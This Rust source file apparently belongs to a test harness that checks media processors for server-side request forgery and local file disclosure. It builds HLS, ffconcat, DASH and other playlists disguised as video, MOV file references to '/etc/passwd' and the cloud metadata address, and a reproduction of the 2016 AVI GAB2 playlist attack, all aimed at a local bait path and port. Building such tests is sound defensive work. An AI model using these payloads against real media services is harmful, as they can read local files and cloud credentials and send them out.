//! Playlists, concatenations and references disguised as media. They try to make a reader fetch what the sender cannot.

use super::boxes::{self, Tables, boxed, full, movie, words};
use super::{Bait, Case};

/// Every disguised file.
#[must_use]
pub fn all(bait: &Bait) -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, text) in texts(bait) {
        // The same text under every extension that a reader might trust.
        for extension in ["mp4", "avi", "mkv", "ts", "mov", "mxf"] {
            cases.push(Case::new(
                format!("{name} as {extension}"),
                extension,
                text.clone().into_bytes(),
            ));
        }
        cases.extend(wrapped(&name, &text));
    }
    cases.extend(references(bait));
    cases.push(Case::new("AVI with a GAB2 playlist", "avi", gab2(bait)));
    cases
}

/// Input of the ffmpeg demuxers that open other files.
fn texts(bait: &Bait) -> Vec<(String, String)> {
    let (file, port) = (bait.path(), bait.port);
    let http = format!("http://127.0.0.1:{port}/stolen");
    let hls = |uri: &str| {
        format!(
            "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{uri}\n#EXT-X-ENDLIST\n"
        )
    };
    let targets = [
        ("a file", format!("file://{file}")),
        ("http", http.clone()),
        ("concat", format!("concat:{http}|file:{file}")),
        ("subfile", format!("subfile,,start,0,end,64,,:{file}")),
        ("crypto", format!("crypto+{http}")),
        ("crypto over tcp", format!("crypto+tcp://127.0.0.1:{port}")),
        ("a proxy", format!("httpproxy://127.0.0.1:{port}/x")),
        ("udp", format!("udp://127.0.0.1:{port}")),
        (
            "data",
            format!("data:text/plain;base64,I0VYVE0zVQpmaWxlOi8v{port}"),
        ),
        (
            "the metadata service",
            "http://169.254.169.254/latest/meta-data/".to_owned(),
        ),
    ];
    let mut texts: Vec<(String, String)> = targets
        .iter()
        .map(|(name, uri)| (format!("HLS to {name}"), hls(uri)))
        .collect();
    let key = format!(
        "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI=\"{http}\"\n#EXTINF:1,\nx.ts\n"
    );
    let variant = format!("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{http}\n");
    let map = format!(
        "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MAP:URI=\"{http}\"\n#EXTINF:1,\nfile://{file}\n"
    );
    let ffconcat = format!("ffconcat version 1.0\nfile {file}\nfile '{http}'\n");
    let concat_option = format!(
        "ffconcat version 1.0\nfile x\noption protocol_whitelist file,http,tcp\nfile {file}\n"
    );
    let dash = format!(
        "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" profiles=\"x\"><BaseURL>{http}</BaseURL><Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"1\"><BaseURL>file://{file}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    );
    let imf = format!(
        "<?xml version=\"1.0\"?><CompositionPlaylist xmlns=\"http://www.smpte-ra.org/schemas/2067-3/2016\"><AssetMap>{file}</AssetMap><Path>{http}</Path></CompositionPlaylist>"
    );
    let sdp = format!(
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    );
    let list = format!("[playlist]\nFile1={http}\nNumberOfEntries=1\n");
    let asx = format!("<asx version=\"3.0\"><entry><ref href=\"{http}\"/></entry></asx>");
    let smil = format!("<smil><body><video src=\"{http}\"/></body></smil>");
    let svg = format!(
        "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"{http}\"/></svg>"
    );
    let mvg = format!("push graphic-context\nimage over 0,0 0,0 '{http}'\npop graphic-context\n");
    texts.extend(
        [
            ("HLS with a key", key),
            ("HLS with variants", variant),
            ("HLS with a map", map),
            ("ffconcat", ffconcat),
            ("ffconcat with an option", concat_option),
            ("DASH with BaseURL", dash),
            ("an IMF playlist", imf),
            ("SDP", sdp),
            ("PLS", list),
            ("ASX", asx),
            ("SMIL", smil),
            ("SVG", svg),
            ("MVG", mvg),
        ]
        .map(|(name, text)| (name.to_owned(), text)),
    );
    texts
}

/// A text behind the first bytes of each container, so that it passes the container detection and reaches the demuxer.
fn wrapped(name: &str, text: &str) -> Vec<Case> {
    let text = text.as_bytes();
    let mov = [boxes::ftyp(), boxed(b"mdat", text), text.to_vec()].concat();
    let mkv = [&[0x1A, 0x45, 0xDF, 0xA3, 0x80][..], text].concat();
    let mut key = vec![
        0x06, 0x0E, 0x2B, 0x34, 0x02, 0x05, 0x01, 0x01, 0x0D, 0x01, 0x02, 0x01,
    ];
    key.extend([0x01, 0x02, 0x04, 0x00, 0x83, 0x00, 0x00, 0x00]);
    // MXF allows a run-in before the first key. Here it is a playlist.
    let mxf = [text, &key].concat();
    let ps = [&[0, 0, 1, 0xBA][..], text].concat();
    // The sync byte of a transport stream is "G", so every 188th character of a text can be one.
    let mut ts: Vec<u8> = text.iter().copied().cycle().take(188 * 16).collect();
    ts.iter_mut().step_by(188).for_each(|b| *b = b'G');
    [
        ("MP4", "mp4", mov),
        ("Matroska", "mkv", mkv),
        ("MXF", "mxf", mxf),
        ("a programme stream", "mpg", ps),
        ("a transport stream", "ts", ts),
    ]
    .map(|(container, extension, bytes)| {
        Case::new(format!("{name} inside {container}"), extension, bytes)
    })
    .to_vec()
}

/// Media that refers to another file (ISO/IEC 14496-12, 8.7.2, and QuickTime's aliases).
fn references(bait: &Bait) -> Vec<Case> {
    let file = bait.path();
    let http = format!("http://127.0.0.1:{}/stolen", bait.port);
    let url = |location: &str| full(b"url ", 0, format!("{location}\0").as_bytes());
    let urn = full(b"urn ", 0, format!("x\0file://{file}\0").as_bytes());
    let entries = [
        ("a file URL", url(&format!("file://{file}"))),
        ("a path", url(file)),
        ("http", url(&http)),
        ("a parent folder", url("../../../../../../etc/passwd")),
        ("a URN", urn),
        ("an alias", alias(file)),
        ("an alias to http", alias(&http)),
        ("a relative alias", alias("canary.ts")),
        ("a resource", full(b"rsrc", 0, &[0; 64])),
    ];
    let case = |(name, entry): (&str, Vec<u8>)| {
        let tables = Tables {
            dref: [words(&[1]), entry].concat(),
            ..Tables::default()
        };
        Case::new(format!("a track kept in {name}"), "mov", movie(&tables))
    };
    entries.map(case).to_vec()
}

/// An `alis` record as ffmpeg reads it: volume, file name, then typed strings with the complete path.
fn alias(path: &str) -> Vec<u8> {
    let name = path.rsplit('/').next().unwrap_or_default();
    let mut record = vec![0; 6];
    record.extend([0, 150, 0, 2, 0, 0]);
    let pascal = |text: &str, room: usize| {
        let mut field = vec![u8::try_from(text.len().min(room)).unwrap_or(0)];
        field.extend(text.bytes().take(room));
        field.resize(room + 1, 0);
        field
    };
    record.extend(pascal("volume", 27));
    record.extend([0; 12]);
    record.extend(pascal(name, 63));
    record.extend([0; 16]);
    record.extend([0, 1, 0, 0]);
    record.extend([0; 16]);
    for (kind, text) in [(2u16, path), (18, path)] {
        record.extend(kind.to_be_bytes());
        record.extend(u16::try_from(text.len()).unwrap_or(0).to_be_bytes());
        record.extend(text.bytes());
        if text.len() % 2 == 1 {
            record.push(0);
        }
    }
    record.extend([0xFF, 0xFF, 0, 0]);
    full(b"alis", 0, &record)
}

/// The attack of 2016: a playlist in a subtitle chunk of an AVI, which a probing demuxer opened.
fn gab2(bait: &Bait) -> Vec<u8> {
    let playlist = format!(
        "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://127.0.0.1:{}/|file://{}\n#EXT-X-ENDLIST\n",
        bait.port,
        bait.path()
    );
    let mut content = b"GAB2\0\x02\0\0\0\0\0\x04\0".to_vec();
    content.extend(u32::try_from(playlist.len()).unwrap_or(0).to_le_bytes());
    content.extend(playlist.bytes());
    let chunk = |kind: &[u8; 4], content: &[u8]| {
        let mut bytes = kind.to_vec();
        bytes.extend(u32::try_from(content.len()).unwrap_or(0).to_le_bytes());
        bytes.extend(content);
        bytes
    };
    let movi = chunk(b"LIST", &[&b"movi"[..], &chunk(b"00tx", &content)].concat());
    let header = chunk(b"LIST", &[&b"hdrl"[..], &chunk(b"avih", &[0; 56])].concat());
    chunk(b"RIFF", &[&b"AVI "[..], &header, &movi].concat())
}
